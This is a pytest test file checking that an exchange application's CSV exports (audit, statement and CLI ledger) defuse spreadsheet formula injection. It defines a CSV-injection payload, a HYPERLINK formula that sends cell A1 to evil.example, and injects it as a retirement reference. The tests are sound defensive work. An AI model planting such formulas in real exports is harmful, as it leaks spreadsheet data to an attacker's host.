"""Issue 11, item 5: no CSV the product writes carries a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient

from exchange.cli import main
from exchange.csv_safe import safe_cell
from tests.exchange.trading_helpers import fund, market_id

Auth = Callable[..., dict[str, str]]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"),
        (-500, -500), ("-500", "-500"), ("+12.5", "+12.5"), (0, 0), (None, None),
    ],
)  # fmt: skip
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


@pytest.fixture
def poisoned(demo_registry: Flask, client: FlaskClient, auth: Auth) -> str:
    """Ordos retired rights with a formula as its reference."""
    mid = market_id(demo_registry, "CEA-2026")
    fund(demo_registry, rights={("ordos", mid): 1_000})
    response = client.post(
        "/api/v1/retirements",
        json={"league": "ordos", "market": "CEA-2026", "quantity": 100, "reference": EVIL},
        headers=auth("league", "ordos"),
    )
    assert response.status_code == 201, response.get_json()
    return "CEA-2026"


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def check(text: str) -> None:
    found = cells(text)
    assert "'" + EVIL in found
    assert EVIL not in found
    assert "-100" in found  # the retirement's debit stays a number


def test_web_exports_defuse_formulas(client: FlaskClient, auth: Auth, poisoned: str) -> None:
    audit = client.get("/audit/export.csv", headers=auth("auditor"))
    assert audit.status_code == 200
    check(audit.get_data(as_text=True))
    statement = client.get(f"/desk/statement.csv?asset={poisoned}", headers=auth("league", "ordos"))
    assert statement.status_code == 200
    check(statement.get_data(as_text=True))


def test_cli_export_defuses_formulas(
    database_url: str, poisoned: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_URL", database_url)
    target = tmp_path / "ledger.csv"
    result = CliRunner().invoke(main, ["export-ledger", "--format", "csv", "-o", str(target)])
    assert result.exit_code == 0, result.output
    check(target.read_text(encoding="utf-8"))
